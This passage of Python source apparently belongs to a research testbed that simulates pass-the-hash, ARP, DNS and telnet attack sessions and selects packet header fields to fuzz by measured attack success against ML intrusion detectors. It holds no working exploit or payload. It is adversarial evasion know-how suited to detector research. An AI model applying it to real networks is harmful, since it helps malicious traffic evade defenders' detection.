            return bool(self.meta["reverse_shell"])
        return self.meta["answered"] == len(self.client.script)


# --------------------------------------------------------------------------
# registry


@dataclass(frozen=True)
class ScenarioInfo:
    """Static description of one testbed."""

    kind: str
    alist: tuple[str, ...]  # candidate fields for field selection
    layers: frozenset[str]  # layers the plan may touch
    victim: str
    representation: str
    family: str
    fuzz_benign: bool  # benign traffic is fuzzed too
    testbed: Callable[..., _Testbed]


REGISTRY: dict[str, ScenarioInfo] = {
    "pth": ScenarioInfo(
        "pth",
        (
            "AUTHP.flags",
            "AUTHP.capabilities",
            "AUTHP.session_token",
            "AUTHP.process_id",
            "AUTHP.multiplex_id",
            *(f"AUTHP.reserved_{i}" for i in range(12)),
        ),
        frozenset({"ETH", "IP", "TCP", "AUTHP"}),
        "server",
        "typeseq",
        "lstm",
        True,
        _PthTestbed,
    ),
    "arp": ScenarioInfo(
        "arp",
        ("ETH.dst", "ARP.sender_ip", "ARP.target_mac", "ARP.target_ip"),
        frozenset({"ETH", "ARP"}),
        "client",
        "bytevec",
        "mlp",
        False,
        _ArpTestbed,
    ),
    "dns": ScenarioInfo(
        "dns",
        (
            "IP.tos",
            "IP.identification",
            "IP.flags",
            "IP.ttl",
            "UDP.sport",
            "DNS.id",
            "DNS.aa",
            "DNS.rd",
            "DNS.ra",
            "DNS.ad",
            "DNS.cd",
            "DNS.rcode",
            "RR.ttl",
            "RR.rdata",
        ),
        frozenset({"ETH", "IP", "UDP", "DNS", "QD", "RR"}),
        "dns_local",
        "bytemat",
        "cnn",
        False,
        _DnsTestbed,
    ),
    "telnet": ScenarioInfo(
        "telnet",
        (
            # id and window are written by the injection tool, not fuzzed
            "IP.tos",
            "IP.flags",
            "IP.ttl",
            "TCP.sport",
            "TCP.seq",
            "TCP.ack",
            "TCP.reserved",
            "TCP.flags",
        ),
        frozenset({"ETH", "IP", "TCP", "TELNET"}),
        "server",
        "headervec",
        "mlp",
        False,
        _TelnetTestbed,
    ),
}


def get_scenario(kind: str) -> ScenarioInfo:
    try:
        return REGISTRY[kind]
    except KeyError:
        raise ConfigError(f"unknown scenario {kind!r}; choose from {', '.join(SCENARIOS)}") from None


def check_plan(kind: str, plan: FuzzPlan) -> None:
    """Raise InvalidPlanForScenario unless every plan field fits the scenario."""
    info = get_scenario(kind)
    bad = [p for p in plan.blist if find_field(p).layer not in info.layers]
    if bad:
        raise InvalidPlanForScenario(f"{kind} traffic has no field {', '.join(bad)}")


def simulate_session(
    kind: str,
    mode: str,
    plan: FuzzPlan,
    rng: np.random.Generator,
    profile: NetProfile = DEFAULT_PROFILE,
    session_id: str = "",
) -> Session:
    """Run one iteration of a scenario."""
    info = get_scenario(kind)
    if mode not in MODES:
        raise ConfigError(f"unknown mode {mode!r}")
    bed = info.testbed(mode, plan, rng, profile, fuzz_benign=info.fuzz_benign)
    packets, success, meta = bed.run()
    return Session(session_id, kind, mode, packets, success, meta)


def run_scenario(
    kind: str,
    mode: str,
    iterations: int,
    plan: FuzzPlan = EMPTY_PLAN,
    seed: int = 0,
    profile: NetProfile = DEFAULT_PROFILE,
    workers: int = 1,
    verbose: bool = False,
) -> list[Session]:
    """Run `iterations` independent sessions of one scenario.

    Each iteration draws from its own generator derived from (seed, kind,
    mode, index); results are ordered by index whatever the worker count.

    Raises:
        InvalidPlanForScenario: a plan field does not exist in this scenario's traffic
    """
    if iterations < 0:
        raise ConfigError(f"iterations must be >= 0, got {iterations}")
    check_plan(kind, plan)
    if verbose:
        print(f"\nSimulating {iterations} {mode} {kind} sessions...")

    def one(i: int) -> Session:
        rng = child_rng(seed, kind, mode, i)
        return simulate_session(kind, mode, plan, rng, profile, f"{kind}-{mode}-{i:06d}")

    if workers > 1:
        with ThreadPoolExecutor(max_workers=workers) as pool:
            return list(pool.map(one, range(iterations)))
    return [one(i) for i in range(iterations)]


def scenario_oracle(kind: str, profile: NetProfile = DEFAULT_PROFILE) -> SuccessOracle:
    """Adapt a scenario into a success oracle: one malicious session per call."""
    get_scenario(kind)

    def oracle(fields: tuple[str, ...], rng: np.random.Generator) -> bool:
        session = simulate_session(kind, MALICIOUS, FuzzPlan(fields), rng, profile)
        return session.success

    return oracle


def auto_plan(
    kind: str,
    trials: int = 500,
    seed: int = 0,
    profile: NetProfile = DEFAULT_PROFILE,
    workers: int = 1,
    history: Optional[list[FieldTrial]] = None,
    verbose: bool = False,
) -> FuzzPlan:
    """Select the scenario's fuzz fields by measured attack success."""
    info = get_scenario(kind)
    if verbose:
        print(f"\nSelecting fields for {kind} ({trials} trials per candidate)...")
    return select_fields(
        info.alist,
        scenario_oracle(kind, profile),
        trials=trials,
        seed=seed,
        workers=workers,
        history=history,
        verbose=verbose,
    )
